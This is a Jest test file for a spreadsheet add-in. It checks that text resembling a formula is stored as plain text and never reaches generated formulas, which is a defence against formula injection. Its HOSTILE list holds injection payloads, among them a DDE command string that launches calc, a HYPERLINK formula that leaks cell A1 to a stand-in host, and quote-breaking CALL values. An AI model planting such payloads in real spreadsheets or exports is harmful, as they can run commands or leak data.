/**
 * @jest-environment jsdom
 *
 * Whatever the add-in writes as text arrives as that text through both doors, however much it looks like a formula; and no text of a form or of
 * a person gets into a formula of ours.
 */
import '../../workbench/host/jsdomGaps';
import { calculateWorkbook } from '../../../src/app/calculateWorkbook';
import { makeNextYear } from '../../../src/app/nextYear';
import { overviewOf } from '../../../src/app/overview';
import { drawRolledUp, proposeRollUp, rollUpCandidates, USUAL_CHOICES } from '../../../src/app/rollUp';
import { formsToSummarise, summarise } from '../../../src/app/summarise';
import { TABLE_STYLES } from '../../../src/app/summary/scoreTable';
import type { EntryValue } from '../../../src/engine/entry';
import { cellName } from '../../../src/form/address';
import { drawOverview } from '../../../src/form/overview/drawOverview';
import { drawTemplate } from '../../../src/form/templates/drawTemplate';
import type { SheetDrawing } from '../../../src/form/templates/sheetDrawing';
import { TEMPLATES } from '../../../src/form/templates/templates';
import type { CellWrite } from '../../../src/form/writePlan';
import { speak } from '../../../src/locales/sentences';
import type { WorkbookSnapshot } from '../../../src/workbook/workbook';
import { snapshotOf, withCell } from '../../app/buildSnapshot';
import { projectRows } from '../../form/buildGrid';
import { cellAt } from '../opened';
import { buildXlsx } from '../xlsxPackage';
import { DOORS, type OpenDoor } from './doors';

/** How a text begins that a sheet would take for a formula, or that hides one behind a blank, a quote or a wide sign. */
const SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\r\n=',
  ' =',
  '\u00a0=',
  '\u3000=',
  "'=",
  '"=',
  ';=',
  ',=',
];
const HOSTILE = [
  ...SIGNS.map((sign) => `${sign}1+1`),
  '=HYPERLINK("https://example.invalid/"&A1,"看")',
  "=cmd|'/c calc'!A1",
  '{=1+1}',
  '"&A1&"',
  '")+CALL("',
  '=1+1}{unit}{project}{points}',
];
/** Some of them, for what takes long. */
const WORST = ['=HYPERLINK("https://example.invalid/"&A1,"看")', '"&A1&"'];

const EMPTY = buildXlsx({ sheets: { 空: '<sheetData/>' } });

const write = (cell: string, value: EntryValue): CellWrite => ({
  cell,
  value,
  before: null,
  from: '',
  to: '',
});

/** Cells in three formats, to be written into. */
const BLANKS: SheetDrawing = (() => {
  const drawing = drawOverview([]);
  const plain = Object.values(drawing.styles)[0];
  if (!plain) throw new Error('no style');
  const formats = { general: 'General', text: '@', percent: '0.00%' };
  return {
    ...drawing,
    name: '表',
    styles: Object.fromEntries(
      Object.entries(formats).map(([name, numberFormat]) => [name, { ...plain, numberFormat }]),
    ),
    cells: HOSTILE.flatMap((_, row) =>
      Object.keys(formats).map((style, column) => ({ row, column, value: 1, formula: null, style })),
    ),
    merges: [],
  };
})();

/** Every hostile text under each format, and in a column that has no cells yet. */
const WRITES = HOSTILE.flatMap((text, row) =>
  [0, 1, 2, 5].map((column) => write(cellName(row, column), text)),
);

async function standing({ workbook }: OpenDoor, sheet: string, cells: readonly string[]): Promise<unknown> {
  const [found] = (await workbook.read([sheet])).sheets;
  return cells.map((cell) => {
    const at = found && cellAt(found.grid, cell);
    return [cell, at?.value ?? null, at?.formula ?? null];
  });
}

const asText = (writes: readonly CellWrite[]): unknown =>
  writes.map(({ cell, value }) => [cell, value, null]);

/** Two forms of projects with a text wherever a form has one of its own. */
function hostileForms(text: string): WorkbookSnapshot {
  const places = [
    [2, 1],
    [7, 3],
    [7, 8],
    [8, 3],
    [9, 3],
    [9, 5],
    [9, 8],
    [12, 0],
  ] as const;
  const rows = places.reduce((made, [row, column]) => withCell(made, row, column, text), projectRows());
  const snapshot = snapshotOf(rows);
  const again = snapshot.sheets.map((sheet) => ({ ...sheet, grid: { ...sheet.grid, sheet: '另一个项目' } }));
  return { ...snapshot, sheets: [...snapshot.sheets, ...again] };
}

/** All that is drawn of a form and of what a person answers, by what it is. */
function drawAll(text: string): ReadonlyMap<string, SheetDrawing> {
  const say = speak('zh-CN');
  const { sheets } = calculateWorkbook(hostileForms(text), { rules: null, overwriteScores: false });
  const made = new Map<string, SheetDrawing>();
  for (const template of TEMPLATES) {
    const { goals, rows } = template.defaults;
    made.set(template.id, drawTemplate(template, { year: 2025, unit: text, project: text, goals, rows }));
  }
  const lines = overviewOf(sheets, say);
  made.set(
    'overview',
    drawOverview(lines.map((line) => ({ ...line, file: text, office: text, remarks: text }))),
  );
  const rolled = proposeRollUp(rollUpCandidates(sheets), USUAL_CHOICES);
  if (!rolled.ok) throw new Error(rolled.problem.code);
  made.set('roll-up', drawRolledUp({ ...rolled.result, unit: text }, say));
  const [place] = formsToSummarise(sheets);
  for (const style of TABLE_STYLES) {
    const paper = place && summarise(sheets, place, style);
    if (!paper?.ok) throw new Error('no summary');
    made.set(`summary by ${style}`, paper.result.drawing);
  }
  return made;
}

const DRAWN = new Map(HOSTILE.map((text) => [text, drawAll(text)]));
const drawn = (text: string, kind: string): SheetDrawing | undefined => DRAWN.get(text)?.get(kind);

const PLAIN = drawAll('道路');
const KINDS = [...PLAIN.keys()];

const formulasOf = (drawing: SheetDrawing | undefined): readonly string[] =>
  (drawing?.cells ?? []).flatMap(({ formula }) => (formula === null ? [] : [formula])).sort();

test.each(KINDS)('no text of a form or of an answer gets into a formula: %s', (kind) => {
  expect(formulasOf(PLAIN.get(kind))).not.toEqual([]);
  for (const text of HOSTILE) {
    const drawing = drawn(text, kind);
    expect(formulasOf(drawing)).toEqual(formulasOf(PLAIN.get(kind)));
    // The text is there at all.
    expect(drawing?.cells.some(({ value }) => typeof value === 'string' && value.includes(text.trim()))).toBe(
      true,
    );
  }
});

describe.each(DOORS)('%s', (_, open) => {
  test('scores and reasons are written as the texts they are, under every format', async () => {
    const door = open(EMPTY);
    await door.workbook.addSheet(BLANKS);
    await door.workbook.apply([{ sheet: '表', writes: WRITES, marks: [] }]);
    expect(
      await standing(
        door,
        '表',
        WRITES.map(({ cell }) => cell),
      ),
    ).toEqual(asText(WRITES));
  });

  test('a copy of a sheet is written in the same way', async () => {
    const door = open(EMPTY);
    await door.workbook.addSheet(BLANKS);
    const name = await door.workbook.copySheet({ from: '表', name: '新', writes: WRITES });
    expect(
      await standing(
        door,
        name,
        WRITES.map(({ cell }) => cell),
      ),
    ).toEqual(asText(WRITES));
  });

  test.each(KINDS)('a drawn sheet holds its texts as texts: %s', async (kind) => {
    for (const text of WORST) {
      const drawing = drawn(text, kind);
      if (!drawing) throw new Error(kind);
      const door = open(EMPTY);
      const name = await door.workbook.addSheet(drawing);
      const texts = drawing.cells.filter(({ value }) => typeof value === 'string');
      const cells = texts.map(({ row, column }) => cellName(row, column));
      expect(await standing(door, name, cells)).toEqual(
        texts.map(({ row, column, value }) => [cellName(row, column), value, null]),
      );
    }
  });

  test('the form of the next year holds the texts of this year as texts', async () => {
    const [template] = TEMPLATES.filter(({ id }) => id === 'project-2020');
    if (!template) throw new Error('no template');
    for (const text of WORST) {
      const { goals, rows } = template.defaults;
      const [unit, project] = [`${text}2025年度`, `${text}（2025年）`];
      const door = open(EMPTY);
      const from = await door.workbook.addSheet(
        drawTemplate(template, { year: 2025, unit, project, goals, rows }),
      );
      const made = await makeNextYear(door.workbook, from, { clearsTargets: false });
      if (made.kind !== 'made') throw new Error(made.kind);
      const [sheet] = (await door.workbook.read([made.sheet])).sheets;
      const cells = (sheet?.grid.rows ?? []).flatMap((row) => (row ?? []).flatMap((cell) => cell ?? []));
      const held = cells.filter(({ value }) => typeof value === 'string' && value.startsWith(text));
      expect(held).toHaveLength(2);
      expect(held.filter(({ formula }) => formula !== null)).toEqual([]);
    }
  });
});
